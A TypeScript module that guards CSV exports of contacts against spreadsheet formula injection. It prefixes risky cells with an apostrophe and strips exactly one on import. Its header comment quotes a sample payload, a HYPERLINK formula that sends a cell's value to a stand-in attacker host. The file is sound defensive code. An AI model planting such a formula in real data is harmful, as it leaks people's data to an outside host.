/**
 * Formula escaping for every CSV MMD writes about contacts (the contacts export, an import's error
 * report, a campaign's recipients). A cell that starts with = + - @ (or their full-width forms), a
 * tab or a carriage return is a formula to Excel, LibreOffice and Numbers — a name or attribute
 * such as =HYPERLINK("https://evil.example/?"&A2) would run when an owner opens the file. Such a
 * cell is written with a leading apostrophe, which spreadsheets show as text (the OWASP advice).
 *
 * Why not csv-stringify's own `escape_formulas`: it prefixes the same characters, but cannot be
 * undone exactly — a value that really is "'=x" comes back from an import as "=x". Here a cell is
 * prefixed when it starts with any number of apostrophes followed by a formula character, so the
 * importer (import-parse.ts, CSV only) removes exactly one leading apostrophe from such a cell and
 * every value an export wrote imports back unchanged. The one value that does not survive a
 * hand-made file is a cell typed as "'=x" meaning the four characters: it is read as "=x".
 */
const FORMULA = /^'*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** The cell as written to a CSV file: an apostrophe before anything a spreadsheet would evaluate. */
export function escapeCell(value: string): string {
  return FORMULA.test(value) ? `'${value}` : value;
}

/** The inverse of escapeCell, for cells read from an imported CSV file. */
export function unescapeCell(value: string): string {
  return value.charCodeAt(0) === 39 && FORMULA.test(value) ? value.slice(1) : value;
}
